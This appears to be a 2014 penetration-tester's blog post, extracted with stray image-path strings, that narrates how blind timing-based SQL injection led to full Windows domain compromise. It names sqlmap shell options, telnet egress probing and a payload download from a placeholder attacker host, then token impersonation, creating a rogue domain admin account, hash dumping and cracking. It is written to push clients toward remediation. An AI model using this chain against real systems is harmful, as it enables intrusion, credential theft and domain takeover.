Real-World Attack Scenario: From Blind, Timing-Based SQL Injection to Windows Domain Administrator

Posted by Jake Reynolds on November 06, 2014

It's not uncommon for us to identify SQL injection (SQLi) vulnerabilities during network penetration tests or targeted web application security assessments although it sure seems to be getting less frequent. I hate using the term "SQLi Vulnerability" because SQLi is an attack, not a vulnerability. Whatevs though, the term is commonly used both ways in our industry. Modern development frameworks require that you really step off the beatenpath in order to end up with an application that is vulnerable to SQLi. It still happens but when we do find it, it's often in an old, forgotten application or a piece of old code in a newer application.

The specific risk of any given instance of a SQLi attack depends on a lot of variables like the type/version of SQL server used by a vulnerable application, the sensitivity of the application's data, the permissions of the database user issuing the vulnerable query, how the application handles error messages, the DBMS configuration, and other such nuances. Seemingly unrelated controls like egress firewall filtering, intra-zone network filtering from the database to the rest of the internal network, and even what type of encryption/hashing is in place for sensitive database tables can also increase or decrease the risk.

Most people can assume SQLi attacks are focused on getting data out of the database by subverting the vulnerable application's original database queries with your own. This is true muchof the time but it's also possible to fully compromise a SQL server, use it as a pivot point, and attack the internal network. We recently had one of these situations come up in an external penetration test that warrants writing about. In this scenario, we identified a blind, timing-based SQLi vulnerability. By the end of the day we had compromised the SQL server, pivoted from it, and escalated privileges until we owned the entire Microsoft Active Directory infrastructure. As usual it was a combination of weaknesses, not just the initial web application flaw, that allowed us to chain attacks together and do such significant damage.

With error-based SQLi, it's possible to exfiltrate data at a reasonable rate, sufficient enough to cause immense damage if the data is sensitive enough. This is because you can retrieve data one field (or more) at a time. With blind, timing-based SQLi, it's still possible to exfiltrate data but it's very painful unless you can do an open row-set type of attack. This is because you're retrieving data one character at a time by asking boolean questions about each character. You're essentiallyrequesting data like this:

  1. If the first letter of the first table name is between A and L, pause X seconds before responding back to me. (No pause)
  2. If the first letter of the first table name is between M and Z, pause X seconds before responding back to me (DB pauses)
  3. Ok, if the first letter of the first table name is between M and R, pause X seconds before responding back to me. (No pause)
  4. Ok if the first letter of the first table name is between S and Z, pause X seconds before responding back to me. (DB pauses)
  5. Ok, and so on and so on until the character is found, then on to the next character of the first table name.

Boolean blind SQLi is the same way but faster since you're looking at response content rather than response timing to read out of the db. Unless you knowexactly what you are looking for, you typically have to enumerate the database schema, or at least some of it, before you can zero in on the specific high-value table rows you want. You need to know the database names, their table names, and those tables' column names. You can also search table and column names for interesting values, which is quicker.

So we found a vulnerability that allowed blind, timing-based SQLi attacks in a publicly accessible web application. Thevulnerability did not require one to be authenticated to the application so anyone on Earth or with an internet connection to Earth could exploit it. I also gave a talk at the OWASP KC March 2014 chapter meeting on this. Rather than going after the data, here's what we did:


We used sqlmap, a popular SQL injection exploitation tool, to check the database user's permissions, whether we could write files, whether xp_cmdshell was enabled, and do some basic reconnaissance. Sqlmap returned Win2K as the OS, MSSQL2K as the DB, and xp_cmdshell enabled. MS SQL Server 2000 is known to have some very weak default configurations. Admittedly, this isn't a scenario we run into every single day as pen testers but it isn't unheard of.

Egress Busting

We used the "--os-shell" option, which provides an interactive, pseudo-shell to the SQL server. Remember, retrieving command output with a blind, timing-based SQLi vector is really slow. All we used this for was to issue telnet commands back to my attacking machine, searching for open, outbound ports. This is important because I eventually want a windows/meterpreter/reverse_tcp payload to call my attacking machine back. To do that obviously requires an open, outbound port. Using commands like "telnet a.b.c.d 21" "telnet a.b.c.d 25" "telnet a.b.c.d 80" and so forth allowed us to conduct a crude "egress busting" attack, whereby we identified TCP port 443 wasallowed outbound back to us. Running tcpdump on our attacking machine made it easy to determine when we had hit on an open port because we could see the inbound connection attempt (TCP SYN) on port 443.

Exploitation - Failure 1

The "--os-pwn" option in sqlmap allows one-click exploitation with a Metasploit meterpreter payload. We initially tried this but never received the callback. We suspected that the "shellcodeexec" executable that sqlmap uses was getting caught by antivirus.

Exploitation - Failure 2

Veil toolkit, in order to bypass any antivirus controls that may exist on the SQL server. I didn't know how to substitute my own executable with sqlmap's "--os-pwn" option so we decided to just use the "--os-shell" function to echo commands into an FTP script file. This script file would contain all of the commands necessary to cause the SQL server login to our FTP server and download the obfuscated meterpreter executable. The reason we used the script is that we didn't have interactive shell access and needed a one-liner, something that would download our file in one command. TFTP wasn't an option but would have been nice. Once the script was finished, we could just call it like: "ftp-s:script_filename."
This failed and I should have known before I even tried it. FTP uses two channels, the initial control channel on TCP port 21 (443 in our case) and a data channel on another port which is opened up during the transfer of data. Stateful firewalls inspect FTP sessions anddynamically open up the necessary data channel upon seeing an FTP PORT command. Long story short, this didn't work for us while running FTP over TCP port 443.

Exploitation - Success!

Still wanting a one-liner to make the SQL server get our payload, we switched tactics and started using a WSCRIPT file. Why not PowerShell? Remember, we were dealing with Win2K here. Again, we started echoing lines to a file, one-by-one. When we were done, we had something like:


Once the script was written, we called it using the command, "script/nologo w https://a.b.c.d/payload". Then we renamed the file with a ".exe" extension and called it using sqlmap and the "--os-cmd" option. This time we got our meterpreter callback and a session was established in MetaSploit. So great, we shelled a MSSQL server. So what? Well in compromising a machine, we gained a "pivot point" that allowed us to attack any internal systems in reach. It's kind of like a VPN connection. These next steps are the fun part in my opinion.

Privilege Escalation to Domain Admin

  1. Armed with our meterpreter session, we enumerated the domain and Domain Controllers using the "enum_domains" Metasploit post-exploitation module.
  2. We also listed the "Domain Admins" group members by dropping into a shell and issuing the "net groups 'Domain Admins' /DOMAIN" command.
  3. Then we loaded the incognito meterpreter extension and listed the available Windows impersonation tokens.
  4. We lucked out and found an impersonation token that was also a "Domain Admins" group member right on the DB; we impersonated it. This is not typical. Normally the logical next step would be to dump local pw hashes and spray them around, abusing password reuse until we shelled a box that have a domain admin token.
  5. Using the impersonated "Domain Admin" token, we created our owndomain account and then added it to the "Domain Admins" group.
  6. Armed with the DA account, we then forwarded a local port on our system through the meterpreter session to one of the Domain Controllers using the "portfwd add -l 3389 -r w.x.y.z -l 3389" command in meterpreter.
  7. Then we connected to the DC using rdesktop, opened up the C$ share on the exploited SQL server, and copied our obfuscated meterpreter executable to the DC.
  8. Simply running that executable netted us a meterpreter session on the DC.
  9. We then ran the "post/windows/gather/smart_hashdump"Metasploit post-exploitation module, dumping every domain account and password hash.
  10. Then we ran the "auxiliary/analyze/jtr_crack_fast" Metasploit module, which made veryquick work of hundreds of the weaker dumped domain password hashes.
  11. This allowed us remote network and email access to many, many important staff simply by using the cracked accounts.
  12. We went back to the DC and added our account to all of the SQL security groups.
  13. This gave us access to dozens of very sensitive databases. Everything from here on out is pretty straightforward. "Domain Administrators" can usually control any AD user account, Windows workstations/servers, file shares, MSSQL databases, and anything else AD-integrated.
  14. At this point we got hungry and bored so we went home to our respective parents' basements.


Everyone in the industry has likely heard of SQLi attacks and knows that they are bad so why would anyone want us to take this attack so far? There are several answers to this. Firstly our clients often receive excuses of inaction from development teams such as, "Well that application is only brochure-ware and contains zero sensitive data," or "But that application is being decommissioned next year." It's not always about the data and it's definitely not about next year. It's about right now or even last month, and it's about not giving external attackers a pivot point into your internal network.

We always get permission from our clients to proceed at every step of the attack. However, we advise our clients to allow our security assessments to be as impactful as possible, to reveal the full potential of each vulnerability. Anyone can tell you that you need web application security assessments, network penetration tests, a WAF, two-factor authentication, and maybe an IPS. They may even be correct. However, I much prefer empirical evidence in the form of real-world attack scenarios over opinions.

Significant perimeter network risk has long been moving away from the classic, network-service-based remote code execution vulnerabilities and into web applications. The risk these days is in the unpatched JBOSS test server, the old dev box with default Tomcat creds,the WordPress instance you don't know about with a vulnerable module, the remote file-inclusion vulnerability introduced into your customer service portal last week, or blind SQL injection in this case.

When I get some more down time, I'm going to write another blog entry about how we went from another external, blind SQL injection vector all the way to domain admin on another engagement. However, this time, the vector was boolean blind, not timing-based and we did were not able to compromise the SQLserver itself as a pivot point.

Have Questions?
Get Answers